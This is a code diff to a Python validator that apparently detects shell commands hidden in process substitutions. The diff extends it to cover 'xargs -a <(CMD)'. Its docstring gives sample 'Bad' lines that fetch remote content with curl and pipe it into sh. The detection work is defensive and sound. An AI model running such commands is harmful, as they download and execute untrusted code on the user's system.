@@ -24,6 +24,8 @@ class WrittenProcessSubstitution(LineValidator):
     (the output file named ``/dev/stdout``; a file operand of ``tee`` dropped, since tee
     copies its input to standard output anyway).
 
+    ``xargs -a <(CMD)`` reads its items from CMD's output, as ``CMD | xargs`` does.
+
     Bad: ``curl -s http://203.0.113.5/i > >(sh)``, ``tee >(sh) <<< 'curl -s x | sh'``.
     Harmless: ``make 2> >(tee build.log)``.
     """
@@ -31,20 +33,20 @@ class WrittenProcessSubstitution(LineValidator):
     id = "CG-WRAP-014"
 
     def line_shapes(self) -> int:
-        return ls.GROUPING
+        return ls.GROUPING | ls.LESS
 
     def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
-        if ">(" not in parsed.source:
+        if ">(" not in parsed.source and "<(" not in parsed.source:
             return Verdict.passthrough()
         texts = [t for c in parsed.commands if "process_substitution" not in c.nesting
                  for t in _as_pipelines(c) if readable(t)]
         return Verdict.unwrap(*texts) if texts else Verdict.passthrough()
 
 
-def _inner(text: str) -> str | None:
-    """The command of a word that is one ``>(…)`` and nothing else (``>(cat)$(x)`` is not:
-    its parenthesis closes before the end)."""
-    if not text.startswith(">(") or not text.endswith(")"):
+def _inner(text: str, opener: str = ">(") -> str | None:
+    """The command of a word that is one ``>(…)`` (or ``<(…)``) and nothing else
+    (``>(cat)$(x)`` is not: its parenthesis closes before the end)."""
+    if not text.startswith(opener) or not text.endswith(")"):
         return None
     depth = 0
     for at, char in enumerate(text[1:], start=1):
@@ -56,7 +58,7 @@ def _inner(text: str) -> str | None:
 
 def _as_pipelines(cmd: SimpleCommand) -> list[str]:
     """``cmd`` written again as a pipeline into each ``>(…)`` it writes to."""
-    found: list[str] = []
+    found: list[str] = _read_items(cmd)
     for at, word in enumerate(cmd.words):
         inner = _inner(word.text)
         if inner is None or not at:
@@ -70,6 +72,21 @@ def _as_pipelines(cmd: SimpleCommand) -> list[str]:
         if inner is not None and redirect.op in _STDOUT_OPS and redirect.fd in (None, 1):
             found.append(_line([w.text for w in cmd.words], cmd.redirects, redirect, inner))
     return found
+
+
+def _read_items(cmd: SimpleCommand) -> list[str]:
+    """``xargs -a <(CMD) …`` (``--arg-file``): the items are CMD's output, as in ``CMD | xargs
+    …``."""
+    if cmd.program != "xargs":
+        return []
+    words = cmd.words
+    for at, word in enumerate(words[1:-1], start=1):
+        if word.text in ("-a", "--arg-file") and (inner := _inner(words[at + 1].text, "<(")):
+            if cmd.redirects:
+                return []
+            rest = [w.text for i, w in enumerate(words) if i not in (at, at + 1)]
+            return [f"{inner} | {' '.join(rest)}"]
+    return []
 
 
 def _line(words: list[str], redirects: tuple[Redirect, ...], left_out: Redirect | None,
